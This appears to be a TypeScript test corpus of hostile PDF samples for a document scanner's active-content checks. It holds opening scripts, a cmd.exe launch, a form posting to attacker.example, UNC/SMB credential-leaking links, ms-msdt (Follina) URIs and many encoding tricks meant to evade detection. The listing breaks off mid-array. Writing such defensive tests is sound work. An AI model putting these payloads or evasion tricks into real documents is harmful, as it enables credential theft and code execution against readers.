import { randomBytes } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import type { FileType } from '../../../shared/schemas/common.ts';
import type { FindingCode } from '../../../shared/validation/inspect.ts';
import {
  baseInCrossReferenceStreamPdf,
  baseInEncryptionDictionaryPdf,
  type Cipher,
  encryptedPdf,
  encryptionAddedByUpdatePdf,
  ownCryptFilterObjectStreamPdf,
} from '../../fixtures/encrypted-pdf.ts';
import {
  activeX,
  PAGE_BACKGROUND,
  svgPicture,
  onlineVideo,
  YOUTUBE_EMBED,
  drawingShape,
  sheetLoading,
  activeXByContentType,
  altChunk,
  contentTypes,
  MAIN_RELS,
  mainDocumentAt,
  mainRels,
  office,
  REL,
  rel,
  rels,
  story,
  utf16,
  utf16SheetAcrossChunks,
  WORD_MAIN,
  complexField,
  dataConnection,
  definedNameFormula,
  docxWithChart,
  docxWithHyperlink,
  documentLinking,
  documentWith,
  dtdAfterLongComment,
  dtdEntityField,
  dtdEntityFormula,
  dtdEntityTargetMode,
  dtdLaughsContentTypes,
  dtdUtf16Relationships,
  embeddedOle,
  embeddedPackage,
  escapedTargetMode,
  externalOle,
  externalTemplate,
  externalTemplateTypedHyperlink,
  externalWorkbookLink,
  inlinePicture,
  linkedPicture,
  macroByContentType,
  macroByRelationship,
  type OfficeKind,
  ofdAction,
  ofdAttachment,
  ofdDoctypeAction,
  ofdHiddenExecutable,
  ofdWith,
  sheetWithFormula,
  sheetWithHyperlink,
  uncHyperlink,
  utf16Relationships,
  wordVbaData,
} from '../../fixtures/active-office.ts';
import {
  documentLinkedPicture,
  documentVmlLinkedPicture,
  webPublishing,
  workbookPicture,
} from '../../fixtures/active-office.ts';
import {
  binarySheet,
  documentVml,
  formControlFormula,
  hyperlinkBase,
  macroSheetByRelationship,
  nestedField,
  sheetWith,
  workbookVml,
} from '../../fixtures/active-office.ts';
import {
  chartDataFetching,
  documentFetching,
  documentOf,
  FETCHING_BODIES,
  chartShapesFetching,
  tableOfContents,
  workbookCustomXml,
  workbookWithStrings,
  workbookWithProperty,
  typedByXmlDefault,
} from '../../fixtures/active-office.ts';
import {
  ofdAnnotationAction,
  ofdEncodedAction,
  ofdFontFile,
  ofdMedia,
  ofdPageAction,
  ofdPartNamed,
  ofdResources,
  ofdRoot,
  ofdSecondDocument,
  ofdAsWritten,
  ofdAttachmentsOfSecondDocument,
  ofdAttachmentUnderAccentedPrefix,
  ofdChinesePrefix,
  ofdExtendData,
  ofdLongUriTag,
  ofdObjectAction,
  ofdSchemaHint,
  ofdSigned,
  ofdVersion,
  ofdCover,
  ofdColorProfile,
  ofdMediaInGbk,
  ofdReplacing,
  INVOICE_DATA,
  ofdAttachedData,
  ofdAttachmentEntry,
  ofdAttachmentList,
  UNC_SHARE,
} from '../../fixtures/active-ofd.ts';
import {
  annotatedPage,
  ascii85,
  bigImage,
  brokenPageTreePdf,
  buildClassicPdf,
  buildPdf,
  directRootPdf,
  escapeNames,
  handwrittenPages,
  handwrittenPdf,
  hybridFreeCatalogPdf,
  hybridStreams,
  incrementalUpdate,
  incrementalUpdateXrefStream,
  lengthDefinedTwicePdf,
  ascii85ControlBytePdf,
  predictorBpcPdf,
  predictorShapePdf,
  predictorShortRowPdf,
  prevWrittenTwicePdf,
  linearizedElsewherePdf,
  linkAnnotations,
  misreadRowsPdf,
  objectStreamAfterTabPdf,
  objectStreamRedefinedPdf,
  outlineItem,
  type Packing,
  pageObjects,
  packedUnderAnotherNumberPdf,
  pdfiumRebuildPdf,
  type PdfObj,
  predictorByReferencePdf,
  prevByReferencePdf,
  rebuiltFromStreamDataPdf,
  reusedNumberPdf,
  spoiledRowPdf,
  startxrefInStreamDataPdf,
  updateWithGenerations,
  utf16Hex,
} from '../../fixtures/active-pdf.ts';
import { buildZip, docxEntries, MiB, png, windowsExecutable, xlsxEntries } from '../../fixtures/files.ts';
import type { CorpusItem } from './corpus-item.ts';

/**
 * The active-content part of the hostile corpus ("Trust II"): every class of active content in
 * DOCX, XLSX and PPTX (a PPTX is refused anyway, as not a document we take, but its content is
 * named too), in PDF wherever it can hide, and in OFD. Joined to CORPUS in ./corpus.ts; the
 * look-alikes that must stay VALID are ACTIVE_GENUINE.
 */

// ── PDF ──────────────────────────────────────────────────────────────────────────────────

interface PdfClass {
  id: string;
  expect: FindingCode;
  catalog?: string;
  page?: string;
  /** Objects numbered from 6, after the page objects. */
  extra?: (first: number) => PdfObj[];
}

const PDF_CLASSES: PdfClass[] = [
  {
    id: 'javascript',
    expect: 'PDF_SCRIPT',
    catalog: '/OpenAction 6 0 R',
    extra: (n) => [{ num: n, body: "<< /S /JavaScript /JS (app.alert('x')) >>" }],
  },
  {
    id: 'launch',
    expect: 'PDF_SCRIPT',
    catalog: '/OpenAction 6 0 R',
    extra: (n) => [{ num: n, body: '<< /S /Launch /F (cmd.exe) >>' }],
  },
  {
    id: 'embedded-file',
    expect: 'PDF_ATTACHMENT',
    catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>',
    extra: (n) => [
      { num: n, body: `<< /Type /Filespec /F (a.exe) /EF << /F ${n + 1} 0 R >> >>` },
      { num: n + 1, body: '/Type /EmbeddedFile', stream: windowsExecutable(1024) },
    ],
  },
  {
    id: 'openaction-uri',
    expect: 'PDF_ACTION',
    catalog: '/OpenAction 6 0 R',
    extra: (n) => [{ num: n, body: '<< /S /URI /URI (http://attacker.example/track) >>' }],
  },
  {
    id: 'page-aa',
    expect: 'PDF_ACTION',
    page: '/AA << /O 6 0 R >>',
    extra: (n) => [{ num: n, body: '<< /S /GoTo /D [3 0 R /Fit] >>' }],
  },
  {
    id: 'xfa',
    expect: 'PDF_SCRIPT',
    catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>',
    extra: (n) => [
      { num: n, body: '[(template) 7 0 R]' },
      { num: n + 1, body: '', stream: Buffer.from('<template><script>xfa.host.messageBox(1)</script></template>') },
    ],
  },
  {
    id: 'submit-form',
    expect: 'PDF_ACTION',
    catalog: '/AcroForm << /Fields [6 0 R] >>',
    extra: (n) => [
      { num: n, body: '<< /FT /Btn /T (send) /A << /S /SubmitForm /F (http://attacker.example/collect) >> >>' },
    ],
  },
  {
    id: 'import-data',
    expect: 'PDF_ACTION',
    catalog: '/AcroForm << /Fields [6 0 R] >>',
    extra: (n) => [
      { num: n, body: '<< /FT /Btn /T (load) /A << /S /ImportData /F (\\\\\\\\attacker.example\\\\x.fdf) >> >>' },
    ],
  },
  // Round 12: a presentation step's next action, run by itself after /Dur in full-screen mode.
  {
    id: 'presteps-uri',
    expect: 'PDF_ACTION',
    catalog: '/PageMode /FullScreen',
    page: '/PresSteps << /Type /NavNode /NA 6 0 R /Dur 0 >>',
    extra: (n) => [{ num: n, body: '<< /S /URI /URI (http://attacker.example/step) >>' }],
  },
];

type Placement =
  | 'plain'
  | 'escaped'
  | 'incremental'
  | 'middle'
  | `objstm-${Exclude<Packing, 'none'>}`
  | `encrypted-${'rc4-40' | 'rc4-128' | 'aes-128-objstm' | 'aes-256-objstm' | 'rc4-128-objstm'}`;
const PLACEMENTS: Placement[] = [
  'plain',
  'escaped',
  'incremental',
  'middle',
  'objstm-flate',
  'objstm-ahx-flate',
  'objstm-a85-flate',
  'objstm-lzw',
  'objstm-flate-png',
  'objstm-runlength',
  // Round 17: locked by an owner password only (the empty user password opens it), so decrypted
  // and read: strings and streams encrypted in the file's own syntax, or the objects in an
  // encrypted object stream.
  'encrypted-rc4-40',
  'encrypted-rc4-128',
  'encrypted-rc4-128-objstm',
  'encrypted-aes-128-objstm',
  'encrypted-aes-256-objstm',
];

/** The class's PDF, its active objects placed as told. */
export function activePdf(c: PdfClass, placement: Placement): Buffer {
  const transform = placement === 'escaped' ? escapeNames : (s: string) => s;
  const extras = (c.extra?.(6) ?? []).map((o) => ({ ...o, body: transform(o.body) }));
  const pages = pageObjects(transform(c.catalog ?? ''), transform(c.page ?? ''));
  if (placement === 'incremental') {
    // The active entries arrive in an update: the original catalog and page are harmless.
    const base = buildClassicPdf(pageObjects());
    return incrementalUpdate(base, [...pages.filter((o) => o.num === 1 || o.num === 3), ...extras]);
  }
  if (placement === 'middle') {
    return buildClassicPdf([...pages, bigImage(20, 1200 * 1024), ...extras, bigImage(21, 1200 * 1024)]);
  }
  if (placement.startsWith('encrypted-')) {
    const [cipher, packing] = (placement.slice('encrypted-'.length).match(/^(.*?)(-objstm)?$/) ?? []).slice(1);
    const packable = [...pages, ...extras].filter((o) => !o.stream).map((o) => o.num);
    return encryptedPdf([...pages, ...extras], { cipher: cipher as Cipher, ...(packing ? { packed: packable } : {}) });
  }
  if (placement.startsWith('objstm-')) {
    const packing = placement.slice('objstm-'.length) as Packing;
    const packable = [...pages, ...extras].filter((o) => !o.stream).map((o) => o.num);
    return buildPdf([...pages, ...extras], { packed: packable, packing });
  }
  return buildPdf([...pages, ...extras]);
}

const pdfItems: CorpusItem[] = PDF_CLASSES.flatMap((c) =>
  PLACEMENTS.map((placement) => ({
    id: `pdf-active-${c.id}-${placement}`,
    category: `PDF active content (${placement})`,
    declared: 'pdf' as const,
    bytes: async () => activePdf(c, placement),
    expect: c.expect,
  })),
);

const URI_ACTION = '<< /S /URI /URI (http://attacker.example/track) >>';
const obj = (num: number, body: string) => `${num} 0 obj\n${body}\nendobj\n`;
/** A file specification on another host (`\\attacker.example\share\x.pdf`), as PDF text. */
const UNC_FILE = '(\\\\\\\\attacker.example\\\\share\\\\x.pdf)';

/**
 * PDFs laid out so that a search for `N G obj` and `stream`, or a reading of one definition per
 * object, sees other objects than a reader reads; and active content the reader reaches by way of
 * references, 3D models or external data.
 */
const readerPdfs: CorpusItem[] = [
  {
    id: 'pdf-header-inside-string',
    category: 'PDF read as a reader reads it',
    declared: 'pdf',
    // `(2 0 obj)` in the catalog: cut there, the catalog's /OpenAction went unread.
    bytes: async () =>
      handwrittenPdf([
        obj(1, '<< /Type /Catalog /T (2 0 obj) /Pages 2 0 R /OpenAction 6 0 R >>'),
        ...handwrittenPages().slice(1),
        obj(6, URI_ACTION),
      ]),
    expect: 'PDF_ACTION',
  },
  {
    id: 'pdf-header-inside-dictionary',
    category: 'PDF read as a reader reads it',
    declared: 'pdf',
    bytes: async () =>
      handwrittenPdf([
        obj(1, '<< /Type /Catalog /Pages 2 0 R /X 9 0 obj /OpenAction 6 0 R >>'),
        ...handwrittenPages().slice(1),
        obj(6, URI_ACTION),
      ]),
    expect: 'PDF_UNREADABLE',
  },
  {
    id: 'pdf-stream-keyword-inside-string',
    category: 'PDF read as a reader reads it',
    declared: 'pdf',
    // The scan took `stream` for data and skipped to `endstream`, over the opening script.
    bytes: async () =>
      handwrittenPdf([
        obj(
          1,
          '<< /Type /Catalog /Pages 2 0 R /A (>>\nstream\n) /OpenAction << /S /JavaScript /JS (app.alert(1)) >> /B (endstream) >>',
        ),
        ...handwrittenPages().slice(1),
      ]),
    expect: 'PDF_UNREADABLE',
  },
  {
    id: 'pdf-stream-keyword-after-inner-dictionary',
    category: 'PDF read as a reader reads it',
    declared: 'pdf',
    bytes: async () =>
      handwrittenPdf([
        obj(1, `<< /Type /Catalog /Pages 2 0 R /X << >>\nstream\n/OpenAction ${URI_ACTION} /B (endstream) >>`),
        ...handwrittenPages().slice(1),
      ]),
    expect: 'PDF_UNREADABLE',
  },
  {
    id: 'pdf-object-defined-twice-first-acts',
    category: 'PDF read as a reader reads it',
    declared: 'pdf',
    // The table names the first definition (a URI); the second, a GoTo, was the one the scan kept.
    bytes: async () =>
      handwrittenPdf([
        ...handwrittenPages('/OpenAction 6 0 R'),
        obj(6, URI_ACTION),
        obj(6, '<< /S /GoTo /D [3 0 R /Fit] >>'),
      ]),
    expect: 'PDF_ACTION',
  },
  {
    id: 'pdf-openaction-type-by-reference',
    category: 'PDF read as a reader reads it',
    declared: 'pdf',
    bytes: async () =>
      handwrittenPdf([
        ...handwrittenPages('/OpenAction << /S 7 0 R /URI (http://attacker.example/track) >>'),
        obj(7, '/URI'),
      ]),
    expect: 'PDF_ACTION',
  },
  {
    id: 'pdf-openaction-through-reference-object',
    category: 'PDF read as a reader reads it',
    declared: 'pdf',
    bytes: async () => handwrittenPdf([...handwrittenPages('/OpenAction 6 0 R'), obj(6, '7 0 R'), obj(7, URI_ACTION)]),
    expect: 'PDF_ACTION',
  },
  {
    id: 'pdf-objstm-count-by-reference',
    category: 'PDF read as a reader reads it',
    declared: 'pdf',
    // /N 8 0 R: the catalog and its opening URI in the object stream went unread.
    bytes: async () =>
      buildPdf([...pageObjects('/OpenAction 6 0 R'), { num: 6, body: URI_ACTION }, { num: 7, body: '2' }], {
        packed: [1, 6],
        countRef: 7,
      }),
    expect: 'PDF_UNREADABLE',
  },
  {
    id: 'pdf-keyword-run-in-dictionary',
    category: 'PDF read as a reader reads it',
    declared: 'pdf',
    // A word of 300,000 letters where a key belongs: read one letter at a time, it never ended.
    bytes: async () => handwrittenPdf(handwrittenPages('a'.repeat(300_000))),
    expect: 'PDF_UNREADABLE',
  },
  {
    id: 'pdf-nesting-deep',
    category: 'PDF read as a reader reads it',
    declared: 'pdf',
    bytes: async () => handwrittenPdf(handwrittenPages(`/X ${'<< /A '.repeat(100_000)}1${' >>'.repeat(100_000)}`)),
    expect: 'PDF_UNREADABLE',
  },
  {
    id: 'pdf-3d-oninstantiate-script',
    category: 'PDF 3D',
    declared: 'pdf',
    bytes: async () =>
      buildPdf([
        ...pageObjects('', '/Annots [6 0 R]'),
        { num: 6, body: '<< /Type /Annot /Subtype /3D /Rect [72 400 500 700] /3DD 7 0 R >>' },
        { num: 7, body: '/Type /3D /Subtype /U3D /OnInstantiate 8 0 R', stream: Buffer.from('U3D\0') },
        { num: 8, body: '', stream: Buffer.from("app.launchURL('http://attacker.example/track')") },
      ]),
    expect: 'PDF_SCRIPT',
  },
  {
    id: 'pdf-3d-activated-on-open',
    category: 'PDF 3D',
    declared: 'pdf',
    bytes: async () =>
      buildPdf([
        ...pageObjects('', '/Annots [6 0 R]'),
        { num: 6, body: '<< /Type /Annot /Subtype /3D /Rect [72 400 500 700] /3DD 7 0 R /3DA << /A /PO >> >>' },
        { num: 7, body: '/Type /3D /Subtype /PRC', stream: Buffer.from('PRC\0') },
      ]),
    expect: 'PDF_SCRIPT',
  },
  {
    id: 'pdf-external-stream-data',
    category: 'PDF external data',
    declared: 'pdf',
    // An image whose data is a file on another host: fetched when the page is drawn.
    bytes: async () =>
      buildPdf([
        ...pageObjects('', '/Resources << /XObject << /Im1 6 0 R >> >>'),
        {
          num: 6,
          body: `/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /Type /Filespec /F ${UNC_FILE} >>`,
          stream: Buffer.alloc(0),
        },
      ]),
    expect: 'PDF_ACTION',
  },
  // Already refused, kept so they stay so.
  {
    id: 'pdf-hybrid-reference-script-in-objstm',
    category: 'PDF read as a reader reads it',
    declared: 'pdf',
    bytes: async () => hybridReferencePdf(),
    expect: 'PDF_SCRIPT',
  },
  {
    id: 'pdf-update-xref-stream-adds-openaction',
    category: 'PDF read as a reader reads it',
    declared: 'pdf',
    bytes: async () =>
      incrementalUpdateXrefStream(buildClassicPdf(pageObjects()), [
        pageObjects('/OpenAction 6 0 R')[0] as PdfObj,
        { num: 6, body: URI_ACTION },
      ]),
    expect: 'PDF_ACTION',
  },
  {
    id: 'pdf-length-defined-twice',
    category: 'PDF read as a reader reads it',
    declared: 'pdf',
    bytes: async () => lengthDefinedTwicePdf(),
    expect: 'PDF_UNREADABLE',
  },
  {
    id: 'pdf-length-short-endstream-early',
    category: 'PDF read as a reader reads it',
    declared: 'pdf',
    // An indirect /Length past an early `endstream`: the object between is data to a reader.
    bytes: async () =>
      handwrittenPdf([
        ...handwrittenPages('/OpenAction 6 0 R'),
        '4 0 obj\n<< /Length 5 0 R >>\nstream\nAAAendstream\nendobj\n6 0 obj << /S /JavaScript /JS (x) >> endobj\nBBB\nendstream\nendobj\n',
        obj(5, '60'),
      ]),
    expect: 'PDF_UNREADABLE',
  },
  {
    id: 'pdf-openaction-gotor-unc',
    category: 'PDF active content (plain)',
    declared: 'pdf',
    bytes: async () => buildPdf(pageObjects(`/OpenAction << /S /GoToR /F ${UNC_FILE} /D [0 /Fit] >>`)),
    expect: 'PDF_ACTION',
  },
  {
    id: 'pdf-openaction-uri-file',
    category: 'PDF active content (plain)',
    declared: 'pdf',
    bytes: async () => buildPdf(pageObjects('/OpenAction << /S /URI /URI (file://attacker.example/share/x) >>')),
    expect: 'PDF_ACTION',
  },
  {
    id: 'pdf-screen-rendition',
    category: 'PDF active content (plain)',
    declared: 'pdf',
    bytes: async () =>
      buildPdf([
        ...pageObjects('', '/Annots [6 0 R]'),
        {
          num: 6,
          body: `<< /Type /Annot /Subtype /Screen /Rect [0 0 99 99] /A << /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D << /F ${UNC_FILE} >> >> >> >> >>`,
        },
      ]),
    expect: 'PDF_ACTION',
  },
];

/** A classic table whose trailer's /XRefStm names a cross-reference stream for what the table lacks: the opening script, in an object stream. */
function hybridReferencePdf(): Buffer {
  const base = buildClassicPdf(pageObjects('/OpenAction 6 0 R'));
  const tableAt = base.lastIndexOf('\nxref') + 1;
  const head = base.subarray(0, tableAt);
  const streams = hybridStreams(
    head.length,
    6,
    Buffer.from('6 0 << /S /JavaScript /JS (app.alert(1)) >>', 'latin1'),
    true,
  );
  const table = base
    .toString('latin1', tableAt)
    .replace(/trailer\n<< \/Size \d+ /, `trailer\n<< /Size 9 /XRefStm ${streams.xrefStmAt} `)
    .replace(/startxref\n\d+/, `startxref\n${head.length + streams.bytes.length}`);
  return Buffer.concat([head, streams.bytes, Buffer.from(table, 'latin1')]);
}

const LINK_CATEGORY = 'PDF link into a Windows share or a local path';
const linkItem = (id: string, bytes: () => Buffer): CorpusItem => ({
  id,
  category: LINK_CATEGORY,
  declared: 'pdf',
  bytes: async () => bytes(),
  expect: 'PDF_ACTION',
});

/**
 * Links the reviewer clicks whose target is a Windows share or a local path: opened with no
 * browser between, a share's host gets the reviewer's Windows credentials. However the target is
 * written (escapes, hex, UTF-16, a file-spec dictionary, by reference, in an object stream or an
 * update) and wherever the action is (a link annotation, an outline item, a /Next chain).
 */
const linkPdfs: CorpusItem[] = [
  linkItem('pdf-link-gotor-unc', () => buildPdf(linkAnnotations(`<< /S /GoToR /F ${UNC_FILE} /D [0 /Fit] >>`))),
  linkItem('pdf-link-uri-file', () =>
    buildPdf(linkAnnotations('<< /S /URI /URI (file://attacker.example/share/x.pdf) >>')),
  ),
  linkItem('pdf-outline-uri-unc', () => buildPdf(outlineItem(`<< /S /URI /URI ${UNC_FILE} >>`))),
  // PDF's own form of a file name: on Windows `/server/share/…` is `\\server\share\…`.
  linkItem('pdf-link-gotor-spec-server', () =>
    buildPdf(linkAnnotations('<< /S /GoToR /F << /Type /Filespec /F (/attacker.example/share/x.pdf) >> >>')),
  ),
  // PDF's form of a drive path (`/c/…` is C:\…), and a drive path as a URI: a local path, as Office's are judged.
  linkItem('pdf-link-gotor-drive', () =>
    buildPdf(linkAnnotations('<< /S /GoToR /F (/c/evidence/annex.pdf) /D [0 /Fit] >>')),
  ),
  linkItem('pdf-link-uri-drive', () => buildPdf(linkAnnotations('<< /S /URI /URI (C:\\\\evidence\\\\x.pdf) >>'))),
  // A relative /F, but a reader takes the UTF-16 /UF first.
  linkItem('pdf-link-gotor-uf-utf16', () =>
    buildPdf(
      linkAnnotations(
        `<< /S /GoToR /F << /Type /Filespec /F (annex.pdf) /UF ${utf16Hex('\\\\attacker.example\\share\\x.pdf')} >> >>`,
      ),
    ),
  ),
  linkItem('pdf-link-uri-hex-upper-spaces', () =>
    buildPdf(
      linkAnnotations(`<< /S /URI /URI <${Buffer.from(' \tFILE://attacker.example/share/x.pdf').toString('hex')}> >>`),
    ),
  ),
  linkItem('pdf-link-uri-octal-unc', () =>
    buildPdf(linkAnnotations('<< /S /URI /URI (\\134\\134attacker.example\\134share\\134x.pdf) >>')),
  ),
  linkItem('pdf-link-gotor-by-reference-objstm', () =>
    buildPdf(
      [
        ...linkAnnotations('<< /S /GoToR /F 8 0 R >>'),
        { num: 8, body: '<< /Type /Filespec /UF 9 0 R >>' },
        { num: 9, body: UNC_FILE },
      ],
      { packed: [6, 8, 9], packing: 'flate' },
    ),
  ),
  linkItem('pdf-link-next-chain-unc', () =>
    buildPdf([
      ...linkAnnotations('<< /S /GoTo /D [3 0 R /Fit] /Next 8 0 R >>'),
      { num: 8, body: `<< /S /GoToR /F ${UNC_FILE} /D [0 /Fit] >>` },
    ]),
  ),
  // A reader resolves the /S: this is a /URI action.
  linkItem('pdf-link-type-by-reference', () =>
    buildPdf([...linkAnnotations(`<< /S 8 0 R /URI ${UNC_FILE} >>`), { num: 8, body: '/URI' }]),
  ),
  // A relative link resolved against the catalog's base, which is a share.
  linkItem('pdf-uri-base-file', () => {
    const [catalog, ...rest] = linkAnnotations('<< /S /URI /URI (x.pdf) >>');
    const body = (catalog as PdfObj).body.replace('>>', '/URI << /Base (file://attacker.example/share/) >> >>');
    return buildPdf([{ num: 1, body }, ...rest]);
  }),
  // Handed to a program by its scheme: ms-msdt ran the link's own script (Follina).
  linkItem('pdf-uri-ms-msdt', () =>
    buildPdf(linkAnnotations('<< /S /URI /URI (ms-msdt:/id PCWDiagnostic /skip force /param "x") >>')),
  ),
  linkItem('pdf-uri-search-ms-share', () =>
    buildPdf(linkAnnotations('<< /S /URI /URI (search-ms:query=x&crumb=location:\\\\attacker.example\\share) >>')),
  ),
  linkItem('pdf-uri-smb-share', () =>
    buildPdf(linkAnnotations('<< /S /URI /URI (smb://attacker.example/share/x.pdf) >>')),
  ),
  // An update redefines a web link as a share: every definition counts.
  linkItem('pdf-link-updated-to-unc', () =>
    incrementalUpdate(buildClassicPdf(linkAnnotations('<< /S /URI /URI (https://www.miit.gov.cn/) >>')), [
      { num: 6, body: `<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI ${UNC_FILE} >> >>` },
    ]),
  ),
  // Read as a URL parser reads it: tabs and line breaks inside a scheme are dropped, and so are
  // controls and spaces before a share (round 9).
  linkItem('pdf-uri-program-scheme-split-by-tab', () =>
    buildPdf(linkAnnotations('<< /S /URI /URI (ms-ms\\tdt:/id PCWDiagnostic /skip force) >>')),
  ),
  linkItem('pdf-uri-program-scheme-split-by-line-break', () =>
    buildPdf(linkAnnotations('<< /S /URI /URI (search-\\r\\nms:query=x&crumb=location:\\\\\\\\attacker.example) >>')),
  ),
  linkItem('pdf-uri-control-before-share', () =>
    buildPdf(
      linkAnnotations(`<< /S /URI /URI <${Buffer.from('\x1f\\\\attacker.example\\share\\x.pdf').toString('hex')}> >>`),
    ),
  ),
  linkItem('pdf-uri-no-break-space-before-share', () =>
    buildPdf(
      linkAnnotations(
        `<< /S /URI /URI <${Buffer.from('\xa0\\\\attacker.example\\share\\x.pdf', 'latin1').toString('hex')}> >>`,
      ),
    ),
  ),
  // A thousand tabs inside the scheme: more than the head a reader keeps of each string.
  linkItem('pdf-uri-program-scheme-padded-with-tabs', () =>
    buildPdf(linkAnnotations(`<< /S /URI /URI (ms-ms${'\t'.repeat(1000)}dt:/id PCWDiagnostic) >>`)),
  ),
  linkItem('pdf-gotor-control-before-share', () =>
    buildPdf(linkAnnotations(`<< /S /GoToR /F (\\037${UNC_FILE.slice(1)} /D [0 /Fit] >>`)),
  ),
  // Round 11: targets as readers decode and fold them. A NEL (UTF-16 0085, or PDFDocEncoding's
  // byte 0x85 read as Latin-1) before a share, which a reader's trim drops; one inside a scheme.
  linkItem('pdf-uri-utf16-nel-before-share', () =>
    buildPdf(linkAnnotations(`<< /S /URI /URI ${utf16Hex('\u0085\\\\attacker.example\\share\\x.pdf')} >>`)),
  ),
  linkItem('pdf-gotor-byte-85-before-share', () =>
    buildPdf(linkAnnotations(`<< /S /GoToR /F (\\205${UNC_FILE.slice(1)} /D [0 /Fit] >>`)),
  ),
  linkItem('pdf-uri-utf16-nel-inside-scheme', () =>
    buildPdf(linkAnnotations(`<< /S /URI /URI ${utf16Hex('ms-ms\u0085dt:/id PCWDiagnostic /skip force')} >>`)),
  ),
  // Look-alikes a best-fit conversion to the system's code page folds into ASCII: full-width
  // backslashes, an ideographic space, full-width letters of a scheme, a letter with a combining mark.
  linkItem('pdf-uri-utf16-full-width-share', () =>
    buildPdf(linkAnnotations(`<< /S /URI /URI ${utf16Hex('＼＼attacker.example＼share＼x.pdf')} >>`)),
  ),
  linkItem('pdf-gotor-uf-ideographic-space-full-width-share', () =>
    buildPdf(
      linkAnnotations(
        `<< /S /GoToR /F << /Type /Filespec /F (annex.pdf) /UF ${utf16Hex('\u3000＼＼attacker.example＼share＼x.pdf')} >> >>`,
      ),
    ),
  ),
  linkItem('pdf-uri-utf16-full-width-scheme', () =>
    buildPdf(linkAnnotations(`<< /S /URI /URI ${utf16Hex('ｍｓ-ｍｓｄｔ:/id PCWDiagnostic /skip force')} >>`)),
  ),
  linkItem('pdf-uri-utf8-bom-full-width-file-scheme', () =>
    buildPdf(
      linkAnnotations(
        `<< /S /URI /URI <EFBBBF${Buffer.from('ｆｉｌｅ://attacker.example/share/x.pdf').toString('hex')}> >>`,
      ),
    ),
  ),
  linkItem('pdf-uri-utf16-combining-mark-in-scheme', () =>
    buildPdf(linkAnnotations(`<< /S /URI /URI ${utf16Hex('m\u0301s-msdt:/id PCWDiagnostic')} >>`)),
  ),
  // PDFDocEncoding's 0x87, a fraction slash as pdf.js decodes it: `⁄⁄host⁄share` folds into a share.
  linkItem('pdf-gotor-pdfdoc-fraction-slash-share', () =>
    buildPdf(linkAnnotations('<< /S /GoToR /F (\\207\\207attacker.example\\207share\\207x.pdf) >>')),
  ),
  linkItem('pdf-gotor-division-slash-server', () =>
    buildPdf(linkAnnotations(`<< /S /GoToR /F ${utf16Hex('\u2215attacker.example\u2215share\u2215x.pdf')} >>`)),
  ),
  // Round 12: zero-width and direction marks, which the shared folding drops as a reader does.
  linkItem('pdf-uri-utf16-zero-width-space-before-share', () =>
    buildPdf(linkAnnotations(`<< /S /URI /URI ${utf16Hex('\u200b\\\\attacker.example\\share\\x.pdf')} >>`)),
  ),
  linkItem('pdf-uri-utf16-zero-width-space-in-scheme', () =>
    buildPdf(linkAnnotations(`<< /S /URI /URI ${utf16Hex('ms-ms\u200bdt:/id PCWDiagnostic')} >>`)),
  ),
  linkItem('pdf-gotor-utf16-right-to-left-override-before-share', () =>
    buildPdf(linkAnnotations(`<< /S /GoToR /F ${utf16Hex('\u202e\\\\attacker.example\\share\\x.pdf')} >>`)),
  ), // Round 13: a /URI written as a name, which pdf.js reads as `/` and the name and PDFium as the name.
  linkItem('pdf-uri-name-share', () =>
    buildPdf(linkAnnotations('<< /S /URI /URI /#5C#5Cattacker.example#5Cshare#5Cx.pdf >>')),
  ),
  // Round 14: strings as each reader's lexer reads them. pdf.js reads `\533` as ś (folded to s:
  // ms-msdt), PDFium and MuPDF as its low byte `[`; MuPDF reads a stray `g` in a hex string as
  // the digit 0 (` \\host\share`), pdf.js and PDFium skip it.
  linkItem('pdf-uri-wide-octal-scheme', () =>
    buildPdf(linkAnnotations('<< /S /URI /URI (m\\533-m\\533dt:/id PCWDiagnostic) >>')),
  ),
  linkItem('pdf-gotor-hex-stray-share', () =>
    buildPdf(linkAnnotations('<< /S /GoToR /F <2g5C5C61747461636B65722E6578616D706C655C73686172655C782E706466> >>')),
  ),
];

/** A file specification by URL (`/FS /URL`), as PDF text. */
const URL_SPEC = '<< /FS /URL /F (http://attacker.example/x.pdf) >>';

/** The page objects with a form XObject (6) on the page whose dictionary holds `extra`. */
const pageWithForm = (extra: string): PdfObj[] => [
  ...pageObjects('', '/Resources << /XObject << /X1 6 0 R >> >>'),
  { num: 6, body: `/Type /XObject /Subtype /Form /BBox [0 0 9 9] ${extra}`, stream: Buffer.from('0 0 m') },
];

const hunted = (id: string, expect: FindingCode, bytes: () => Buffer): CorpusItem => ({
  id,
  category: 'PDF active content a reader acts on',
  declared: 'pdf',
  bytes: async () => bytes(),
  expect,
});

/** A link annotation whose /URI leads into a share (`file://host/share/x.pdf`), in a string. */
const SHARE_LINK: PdfObj[] = [
  ...pageObjects('', '/Annots [6 0 R]'),
  {
    num: 6,
    body: '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (file://attacker.example/share/x.pdf) >> >>',
  },
];
/** A document script run on opening, packed in the object stream (objects 1 and 6). */
const OPENING_SCRIPT: PdfObj[] = [
  ...pageObjects('/OpenAction 6 0 R'),
  { num: 6, body: "<< /S /JavaScript /JS (app.alert('x')) >>" },
];

/** Classes hunted for one by one: each fetched, opened, played or run by a reader, some once marked VALID. */
const huntedPdfs: CorpusItem[] = [
  // A reference XObject: the reader fetches the other file's page to draw this one, with no click.
  hunted('pdf-reference-xobject-share', 'PDF_ACTION', () =>
    buildClassicPdf(pageWithForm(`/Ref << /F ${UNC_FILE} /Page 0 >>`)),
  ),
  hunted('pdf-reference-xobject-url-spec', 'PDF_ACTION', () =>
    buildPdf(pageWithForm(`/Ref << /F ${URL_SPEC} /Page 0 >>`)),
  ),
  // A name ended by #00: `/JavaScript` to a reader that keeps names as C strings.
  hunted('pdf-name-ended-by-nul', 'PDF_SCRIPT', () =>
    buildClassicPdf([
      ...pageObjects('/OpenAction 6 0 R'),
      { num: 6, body: '<< /S /JavaScript#00 /JS#00 (app.alert(1)) >>' },
    ]),
  ),
  // Filter parameters by reference: read without them, each PNG row's tag byte splits the names.
  hunted('pdf-objstm-predictor-by-reference', 'PDF_UNREADABLE', predictorByReferencePdf),
  // The cross-reference stream calls the packed object 6 (an opening /URI to pdf.js); its pairs, 7.
